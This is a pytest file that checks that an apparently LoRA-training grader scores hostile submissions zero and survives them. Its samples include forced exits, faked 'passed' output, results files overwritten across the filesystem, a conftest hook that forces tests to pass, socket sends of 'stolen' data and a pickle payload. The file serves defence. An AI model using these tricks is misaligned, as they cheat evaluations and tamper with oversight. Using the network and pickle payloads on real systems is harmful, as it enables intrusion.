"""Hostile basics: each scores what it earned (nothing, mostly) and the grader survives and reports.
The full corpus and threat model grow in tests/hostile/ (see the issue on the judge's defences)."""
from __future__ import annotations

import json
import pickle
import time

import pytest

from grader.sandbox import detect_mode
from tests.conftest import grade, make_submission

needs_bwrap = pytest.mark.skipif(detect_mode() == "process", reason="bubblewrap is not installed")

STUB_PREFIX = "from peft import LoraConfig, TaskType, get_peft_model\n"


def hostile_stub(root, code: str, extra_files=None):
    """The untouched stub with hostile code run at import of train.py."""
    return make_submission(root, base="stub", patches=[("train.py", STUB_PREFIX, STUB_PREFIX + code)],
                           files=extra_files)


def assert_graded_zero(result, out):
    assert result.score == 0
    data = json.loads((out / "results.json").read_text())     # the grader's own, intact
    assert data["score"] == 0 and len(data["tests"]) == 13
    assert (out / "report.html").exists()


@pytest.mark.parametrize("name, code", [
    ("sys_exit", "import sys\nsys.exit(0)\n"),
    ("os_exit", "import os\nos._exit(0)\n"),
    ("prints_passed", "print('=' * 20 + ' 100 passed in 1.00s ' + '=' * 20)\n"
                      "print('{\"score\": 100, \"tests\": []}')\n"),
    ("ignores_sigterm", "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"),
])
def test_score_inflation_at_import(name, code, tmp_path):
    result, _ = grade(hostile_stub(tmp_path / name, code), tmp_path / "out")
    assert_graded_zero(result, tmp_path / "out")


def test_results_files_written_everywhere(tmp_path):
    code = """import os, json
fake = json.dumps({"score": 100, "tests": []})
for root, dirs, files in os.walk("/", topdown=True):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
    for name in ("results.json", "report.html", "grader-result.json"):
        try:
            open(os.path.join(root, name), "w").write(fake)
        except OSError:
            pass
"""
    sub = hostile_stub(tmp_path / "writer", code)
    result, _ = grade(sub, tmp_path / "out")
    assert_graded_zero(result, tmp_path / "out")
    assert not list(sub.rglob("results.json")), "the original submission must stay untouched"


def test_conftest_in_submission_is_never_loaded(tmp_path):
    conftest = """import pytest
@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
"""
    sub = make_submission(tmp_path / "conftest", base="stub",
                          files={"conftest.py": conftest, "qwen2_lora/conftest.py": conftest,
                                 "qwen2_lora/pytest.ini": "[pytest]\naddopts = -p no:grader.plugin\n"})
    result, _ = grade(sub, tmp_path / "out")
    assert_graded_zero(result, tmp_path / "out")


def test_infinite_loop_is_stopped_and_reported(tmp_path, monkeypatch):
    monkeypatch.setenv("GRADER_INSPECT_TIMEOUT_S", "10")
    monkeypatch.setenv("GRADER_TRAIN_TIMEOUT_S", "10")
    started = time.monotonic()
    result, checks = grade(hostile_stub(tmp_path / "loop", "while True:\n    pass\n"), tmp_path / "out")
    assert time.monotonic() - started < 120
    assert_graded_zero(result, tmp_path / "out")
    assert "超时" in checks["test_records"].output and "time limit" in checks["test_records"].output


@needs_bwrap
def test_network_attempts_reach_nothing(tmp_path, loopback_listener):
    port, accepted = loopback_listener
    code = f"""import socket
for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(b"stolen")
    except OSError:
        pass
"""
    result, _ = grade(hostile_stub(tmp_path / "net", code), tmp_path / "out")
    assert_graded_zero(result, tmp_path / "out")
    assert not accepted


class _Canary:
    """Unpickling this creates a file: proof that someone ran pickle.load on it."""
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def test_pickle_adapter_is_never_unpickled_by_the_judge(tmp_path):
    canary = tmp_path / "unpickled-canary"
    payload = pickle.dumps(_Canary(str(canary)))
    save = "    model.save_pretrained(output_dir)  # adapter_model.safetensors + adapter_config.json\n"
    evil = (f"    import os\n    open(os.path.join(output_dir, 'adapter_model.bin'), 'wb').write({payload!r})\n"
            f"    open(os.path.join(output_dir, 'adapter_config.json'), 'w').write('{{\"peft_type\": \"LORA\"}}')\n")
    sub = make_submission(tmp_path / "pickle", patches=[("train.py", save, evil)])
    result, checks = grade(sub, tmp_path / "out")
    assert not canary.exists()
    assert checks["test_adapter_saved"].status == "failed"
    assert "adapter_model.safetensors" in checks["test_adapter_saved"].output
    assert {n for n, c in checks.items() if c.status != "passed"} == {
        "test_adapter_saved", "test_training_loss_falls", "test_judge_answer", "test_student_answer"}
